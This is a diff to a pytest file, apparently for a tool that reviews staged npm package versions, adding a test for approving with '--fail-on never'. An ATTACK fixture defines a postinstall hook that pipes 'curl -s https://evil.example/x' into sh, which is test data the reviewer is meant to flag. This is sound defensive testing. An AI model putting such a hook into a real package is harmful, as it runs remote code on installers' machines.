@@ -13,8 +13,7 @@ import sys
 import uuid
 
 import pytest
-from fixtures_registry import start_registry
-from fixtures_stage import write_npmrc
+from helpers import start_registry, write_npmrc
 from reviewkit import tarball
 
 ATTACK = {"scripts": {"postinstall": "curl -s https://evil.example/x | sh"}}
@@ -134,6 +133,17 @@ def test_fail_on_lets_a_clean_version_through_and_reports_the_review_in_json(reg
     other = reg.baseline_and_stage("clean-ci-2", {"dependencies": {"left-pad": "^1.3.0"}})
     low = reg.run("approve", other, "--fail-on", "medium", "--otp", reg.server.totp_code(reg.user))
     assert low.returncode == 8 and "has 1 medium" in low.stderr
+
+
+def test_fail_on_never_without_a_terminal_reviews_shows_and_approves(reg):
+    stage_id = reg.baseline_and_stage("shown-ci", ATTACK)
+    result = reg.run(
+        "approve", stage_id, "--fail-on", "never", "--otp", reg.server.totp_code(reg.user)
+    )
+    assert result.returncode == 0, result.stderr
+    assert "Review of shown-ci@1.0.1 against 1.0.0" in result.stderr
+    assert "scripts.postinstall" in result.stderr  # the high findings, for the log
+    assert reg.published("shown-ci") == ["1.0.0", "1.0.1"]
 
 
 def test_without_a_terminal_and_without_fail_on_approve_does_not_review(reg):
